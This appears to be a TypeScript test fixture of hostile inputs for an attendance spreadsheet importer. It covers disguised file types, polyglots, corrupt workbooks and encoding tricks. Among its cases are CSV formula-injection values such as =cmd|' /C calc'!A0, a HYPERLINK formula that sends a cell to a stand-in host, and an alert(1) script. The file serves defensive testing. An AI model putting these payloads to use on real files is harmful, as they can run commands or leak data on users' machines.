import { type WriteOptions, writeXlsx } from "hucre/xlsx";
import { accepted, type Case, casesOf, type Entry, partly, refused } from "./case.ts";
import { plainMonth, zhang } from "./cast.ts";
import { encode, encodeText, htmlOf, utf8, utf16 } from "./encode.ts";
import { keptOf, told } from "./month.ts";
import { randomFill } from "./noise.ts";
import { BY_NUMBER, longShape } from "./shapes/long.ts";
import { boastfulXls, cyclicXls, danglingXls, lockedXls, oldXls, wordDocument } from "./xls.ts";
import { zipOf } from "./zip.ts";

const month = plainMonth([zhang]);
const kept = keptOf(month.days, told);
const withoutLast = keptOf(month.days.slice(0, -1), told);
const book = () => longShape(BY_NUMBER).write(month);
const signature =
  (...bytes: number[]) =>
  () =>
    Uint8Array.from([...bytes, ...randomFill(600)]);

/** Nothing in it, or something else altogether. */
// biome-ignore format: a table is read by its columns
const CONTENTS: readonly Entry[] = [
  ["empty", "空文件", "no bytes at all", "考勤.csv", refused("file-empty"), () => new Uint8Array()],
  ["blank", "只有空白", "blanks only", "考勤.csv", refused("file-empty"), () => utf8(" \r\n\t \n")],
  ["bom-only", "只有 UTF-8 字节序标记", "a byte order mark only", "考勤.csv", refused("file-empty"), () => utf8("\uFEFF")],
  ["utf16-bom-only", "只有 UTF-16 字节序标记", "a byte order mark of UTF-16 only", "考勤.csv", refused("file-empty"), () => utf16("\uFEFF", true)],
  ["delimiters-only", "只有逗号", "delimiters only", "考勤.csv", refused("header-not-recognised"), () => utf8(",,,\n,,,\n")],
  ["heading-only", "只有表头没有数据", "headings without a row", "考勤.csv", refused("file-empty"), () => utf8("工号,姓名,日期,工时,状态\n")],
  ["prose", "一篇文章", "prose", "考勤.txt", refused("header-not-recognised"), () => utf8("今天天气很好，没有考勤。\n明天再说。\n")],
  ["json", "JSON", "JSON", "考勤.csv", refused("header-not-recognised"), () => utf8('{"code":401,"message":"请登录"}')],
  ["noise", "随机字节", "noise", "考勤.xlsx", refused("file-not-what-it-says"), () => randomFill(5000)],
  ["nul-bytes", "全是 NUL", "NUL bytes only", "考勤.csv", refused("file-empty"), () => new Uint8Array(4096)],
  ["png", "PNG 图片改名", "a PNG named .xlsx", "考勤.xlsx", refused("file-not-what-it-says"), signature(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)],
  ["jpeg", "JPEG 图片改名", "a JPEG named .xlsx", "考勤.xlsx", refused("file-not-what-it-says"), signature(0xff, 0xd8, 0xff, 0xe0)],
  ["gif", "GIF 图片改名", "a GIF named .csv", "考勤.csv", refused("file-not-what-it-says"), signature(0x47, 0x49, 0x46, 0x38, 0x39, 0x61)],
  ["pdf", "PDF 改名", "a PDF named .xlsx", "考勤.xlsx", refused("file-not-what-it-says"), () => utf8("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n")],
  ["rar", "RAR 压缩包", "a RAR archive", "考勤.xlsx", refused("file-not-what-it-says"), signature(0x52, 0x61, 0x72, 0x21, 0x1a, 0x07)],
  ["7z", "7z 压缩包", "a 7z archive", "考勤.xlsx", refused("file-not-what-it-says"), signature(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c)],
  ["gzip", "gzip 压缩的 CSV", "a gzipped text", "考勤.csv", refused("file-not-what-it-says"), signature(0x1f, 0x8b, 0x08)],
  ["program", "可执行文件", "a program", "考勤.xlsx", refused("file-not-what-it-says"), () => Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, ...new Uint8Array(600)])],
  ["login-page", "会话过期时存下的登录页", "a login page saved as the export", "考勤.xls", refused("file-not-what-it-says"), () => utf8("<!DOCTYPE html><html><body><form><input name=user></form></body></html>")],
];

/** Workbooks of other programs, of other times, or under a password. */
// biome-ignore format: a table is read by its columns
const WORKBOOKS: readonly Entry[] = [
  ["encrypted-xlsx", "设了打开密码的 xlsx", "a workbook under a password", "考勤.xlsx", refused("file-encrypted"), () => encryptedXlsx()],
  ["encrypted-xls", "设了打开密码的 xls", "an old workbook under a password", "考勤.xls", refused("file-encrypted"), () => lockedXls(book())],
  ["excel-95", "Excel 95 的 xls，汉字已丢", "a workbook of Excel 95 whose writer lost the Chinese", "考勤.xls", refused("header-not-recognised"), () => oldXls(book(), "biff5")],
  ["excel-2", "Excel 2 的 xls", "a workbook of Excel 2", "考勤.xls", refused("file-is-old-xls"), () => oldXls(book(), "biff2")],
  ["xls-1904", "1904 日期系统的 xls", "an old workbook that counts from 1904", "考勤.xls", accepted(kept), () => oldXls(book(), "biff8", { serials: true, date1904: true })],
  ["xls-serials", "日期为序列号的 xls", "an old workbook of serial dates", "考勤.xls", accepted(kept), () => oldXls(book(), "biff8", { serials: true })],
  ["xls-header-only", "xls 只剩文件头", "an old workbook of which the header is left", "考勤.xls", refused("file-damaged"), () => oldXls(book()).slice(0, 512)],
  ["xls-cyclic", "xls 的扇区链成环", "an old workbook whose sectors run in a circle", "考勤.xls", refused("file-damaged"), () => cyclicXls(book())],
  ["xls-boastful", "xls 声称有四十亿个文本", "an old workbook that claims four billion texts", "考勤.xls", accepted(kept), () => boastfulXls(book())],
  ["xls-dangling", "xls 单元格指向不存在的文本", "an old workbook with a cell of a text that isn't there", "考勤.xls", partly(withoutLast, ["text-damaged"]), () => danglingXls(book())],
  ["word-doc", "Word 97 文档改名", "a document of Word 97", "考勤.xls", refused("file-not-what-it-says"), () => wordDocument()],
  ["xlsb", "xlsb 改名", "a binary workbook named .xlsx", "考勤.xlsx", refused("file-not-what-it-says"), () => oldXls(book(), "xlsb")],
  ["ods", "ods 改名", "an OpenDocument sheet named .xlsx", "考勤.xlsx", refused("file-not-what-it-says"), () => oldXls(book(), "ods")],
  ["xml-2003", "XML 表格 2003", "an XML spreadsheet of 2003", "考勤.xls", accepted(kept, [], ["extension-differs"]), () => oldXls(book(), "xlml")],
  ["docx", "docx 改名", "a document named .xlsx", "考勤.xlsx", refused("file-not-what-it-says"), () => zipOf([{ name: "[Content_Types].xml", data: "<Types/>" }, { name: "_rels/.rels", data: officeLink("word/document.xml") }, { name: "word/document.xml", data: "<w:document/>" }])],
  ["zip-of-workbook", "xlsx 又打成 zip", "a workbook inside a zip", "考勤.zip", refused("file-not-what-it-says"), async () => zipOf([{ name: "六月考勤.xlsx", data: await workbook() }])],
  ["no-sheets", "没有工作表的工作簿", "a workbook without sheets", "考勤.xlsx", refused("file-not-what-it-says"), () => zipOf([{ name: "_rels/.rels", data: officeLink("xl/workbook.xml") }, { name: "xl/workbook.xml", data: "<workbook><sheets/></workbook>" }])],
];

const officeLink = (target: string): string =>
  `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/></Relationships>`;

const workbook = (): Promise<Uint8Array> => encode(book(), "xlsx");

const encryptedXlsx = (): Promise<Uint8Array> =>
  writeXlsx({
    sheets: [{ name: "考勤", rows: [["姓名", "日期", "工时"]] }] as WriteOptions["sheets"],
    encryption: { password: "123456", spinCount: 1 },
  });

/** One file that is two: what comes first decides what it is, and where the two disagree it is refused. */
// biome-ignore format: a table is read by its columns
const POLYGLOTS: readonly Entry[] = [
  ["pdf-and-zip", "PDF 与 xlsx 合体", "a PDF that is a workbook too", "考勤.xlsx", refused("file-not-what-it-says"), async () => behind("%PDF-1.7\n%%EOF\n", await workbook())],
  ["html-and-zip", "网页与 xlsx 合体", "a web page that is a workbook too", "考勤.xls", refused("file-not-what-it-says"), async () => behind("<html><table><tr><td>姓名</td></tr></table></html>", await workbook())],
  ["jpeg-and-zip", "JPEG 与 xlsx 合体", "a JPEG that is a workbook too", "考勤.xlsx", refused("file-not-what-it-says"), async () => behind(Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, ...randomFill(300)]), await workbook())],
  ["program-and-zip", "自解压程序与 xlsx 合体", "a self-extracting program around a workbook", "考勤.xlsx", refused("file-not-what-it-says"), async () => behind(Uint8Array.from([0x4d, 0x5a, 0x90, 0, ...new Uint8Array(300)]), await workbook())],
  ["text-and-zip", "CSV 后面接着 xlsx", "a text with a workbook behind it", "考勤.csv", refused("file-not-what-it-says"), async () => behind("工号,日期,工时\n0064,2026-06-01,8\n", await workbook())],
  ["zip-and-html", "xlsx 后面接着网页", "a workbook with a web page behind it", "考勤.xlsx", refused("file-damaged"), async () => behind(await workbook(), utf8("<html><script>alert(1)</script></html>"))],
  ["xls-and-zip", "xls 与 xlsx 合体", "an old workbook with a new one behind it", "考勤.xls", refused("file-not-what-it-says"), async () => behind(oldXls(book()), await workbook())],
];

const behind = (first: string | Uint8Array, second: Uint8Array): Uint8Array =>
  new Uint8Array(Buffer.concat([Buffer.from(first as Uint8Array), second]));

const HEAD = "工号,姓名,日期,工时,状态,备注";
const GOOD = "0064,张小明,2026-06-01,8,出勤,";
const text = (...rows: string[]): string => `${[HEAD, ...rows].join("\n")}\n`;
const one = { s64: "1:480" };
const LONG = "长".repeat(100_000);

/** Delimited text that is broken, enormous, or in another encoding than it says. */
// biome-ignore format: a table is read by its columns
const TEXTS: readonly Entry[] = [
  ["unclosed-quote", "引号没有闭合", "a quote that is never closed", "考勤.csv", partly(one, ["unknown-student"]), () => utf8(text(GOOD, '"0064,张小明,2026-06-02,8,出勤,'))],
  ["unclosed-quote-early", "表头前引号没有闭合", "a quote that opens before the headings", "考勤.csv", accepted(one, ["matched-by-name"]), () => utf8(`"${text(GOOD)}`)],
  ["one-line", "一行 20 MB", "a line of 20 MB", "考勤.csv", refused("file-damaged"), () => utf8(text(GOOD) + "x".repeat(20e6))],
  ["many-columns", "十万列", "100,000 columns", "考勤.csv", accepted(one), () => utf8(`${HEAD}${",".repeat(100_000)}\n${GOOD}${",1".repeat(100_000)}\n`)],
  ["long-cell", "备注有十万字", "a note of 100,000 characters", "考勤.csv", accepted(one), () => utf8(text(`${GOOD}${LONG}`))],
  ["long-name", "姓名有十万字", "a name of 100,000 characters", "考勤.csv", partly(one, ["cell-too-long"]), () => utf8(text(GOOD, `,${LONG},2026-06-02,8,出勤,`))],
  ["long-date", "日期有十万字", "a date of 100,000 characters", "考勤.csv", partly(one, ["cell-too-long"]), () => utf8(text(GOOD, `0064,张小明,${"2".repeat(100_000)},8,出勤,`))],
  ["formula-command", "姓名是 =cmd|…", "a name =cmd|' /C calc'!A0", "考勤.csv", partly(one, ["formula-not-calculated"]), () => utf8(text(GOOD, ",=cmd|' /C calc'!A0,2026-06-02,8,出勤,"))],
  ["formula-at", "姓名是 @SUM(…)", "a name @SUM(1+1)", "考勤.csv", partly(one, ["unknown-student"]), () => utf8(text(GOOD, ",@SUM(1+1)*cmd|' /C calc'!A0,2026-06-02,8,出勤,"))],
  ["formula-plus", "工号是 +1+cmd", "an employee number +1+cmd", "考勤.csv", partly(one, ["unknown-student"]), () => utf8(text(GOOD, "+1+cmd|' /C calc'!A0,,2026-06-02,8,出勤,"))],
  ["formula-note", "备注是公式", "a formula in the note", "考勤.csv", accepted(one), () => utf8(text(`${GOOD}=HYPERLINK("http://x.example"&A1)`.replaceAll('"', "")))],
  ["utf8-bom-on-gbk", "GBK 文件却有 UTF-8 标记", "GBK behind the byte order mark of UTF-8", "考勤.csv", refused("file-not-what-it-says"), async () => behind(utf8("\uFEFF"), await gbk(text(GOOD)))],
  ["utf16-wrong-order", "UTF-16 字节序标反了", "UTF-16 under the mark of the other byte order", "考勤.csv", refused("header-not-recognised"), () => Uint8Array.from([0xff, 0xfe, ...utf16(text(GOOD), false)])],
  ["odd-utf16", "UTF-16 少了半个字", "UTF-16 that ends in half a unit", "考勤.csv", accepted(one), () => Uint8Array.from([0xff, 0xfe, ...utf16(text(GOOD), true), 0x41])],
  ["broken-utf8", "UTF-8 里混入一行 GBK", "a line of GBK within UTF-8", "考勤.csv", partly(one, ["text-damaged"]), async () => behind(utf8(`${text(GOOD)}${"合计,,,8,\n".repeat(50)}`), await gbk(",张小明,2026-06-02,8,出勤,\n"))],
  ["lone-surrogate", "姓名里有半个代理对", "a lone surrogate in a name", "考勤.csv", partly(one, ["text-damaged"]), () => utf16(`\uFEFF${text(GOOD, ",张\ud800明,2026-06-02,8,出勤,")}`, true)],
  ["lone-surrogate-note", "备注里有半个代理对", "a lone surrogate in the note", "考勤.csv", accepted(one), () => utf16(`\uFEFF${text(`${GOOD}\udc00`)}`, true)],
  ["nul-in-cell", "单元格里有 NUL", "a NUL within a cell", "考勤.csv", accepted({ s64: "1:480 2:480" }), () => utf8(text(GOOD, "00\u000064,,2026-06-02,8,出勤,"))],
  ["control-characters", "单元格里有控制字符", "control characters within a note", "考勤.csv", accepted(one), () => utf8(text(`${GOOD}\u0007\u001b[31m`))],
  ["bidi", "姓名里有方向控制符", "a name with direction overrides", "考勤.csv", accepted(one, ["matched-by-name"]), () => utf8(text(",\u202e张小明\u202c,2026-06-01,8,出勤,"))],
  ["html-charset-lies", "网页声明 UTF-8，实为 GBK", "a web page that says UTF-8 and is GBK", "考勤.xls", accepted(kept, [], ["extension-differs"]), () => gbk(pageSaying("utf-8"))],
  ["html-charset-silent", "网页没有声明编码", "a web page that says no encoding", "考勤.xls", accepted(kept, [], ["extension-differs"]), () => gbk(pageSaying(""))],
  ["html-huge-span", "网页单元格合并一百万行一百万列", "a web page with a cell over a million rows and columns", "考勤.xls", accepted(one, [], ["extension-differs"]), () => utf8(`<html><table><tr>${cellsOf(HEAD)}</tr><tr>${cellsOf(GOOD.slice(0, -1))}<td rowspan=1000000 colspan=1000000>x</td></tr></table></html>`)],
  ["html-unclosed", "网页标签没有闭合", "a web page whose tags are never closed", "考勤.xls", accepted(one, [], ["extension-differs"]), () => utf8(`<table><tr>${cellsOf(HEAD).replaceAll("</td>", "")}<tr>${cellsOf(GOOD).replaceAll("</td>", "")}`)],
  ["html-script", "网页里有脚本", "a web page with scripts in its cells", "考勤.xls", accepted(one, [], ["extension-differs"]), () => utf8(`<html><script>var t = "<table><tr><td>姓名</td></tr></table>"</script><table><tr>${cellsOf(HEAD)}</tr><tr>${cellsOf(GOOD)}</tr></table></html>`)],
];

const cellsOf = (row: string): string =>
  row
    .split(",")
    .map((cell) => `<td>${cell}</td>`)
    .join("");

const pageSaying = (charset: string): string => {
  const sheet = book().sheets[0];
  return sheet ? htmlOf(sheet, charset) : "";
};

const gbk = (content: string): Uint8Array => encodeText(content, "gb18030");

export const hostileCases: readonly Case[] = [
  ...casesOf("content", CONTENTS),
  ...casesOf("program", WORKBOOKS),
  ...casesOf("polyglot", POLYGLOTS),
  ...casesOf("text", TEXTS),
];
